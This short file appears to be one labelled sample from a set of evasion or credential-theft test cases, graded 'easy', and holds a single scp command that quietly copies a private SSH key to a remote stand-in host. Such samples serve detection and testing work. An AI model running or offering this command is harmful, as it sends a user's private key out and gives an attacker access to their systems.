# evasion: an SSH key copied out with scp
# grade: easy; does: credentials
scp -q ~/.ssh/id_rsa user@203.0.113.5:/tmp/
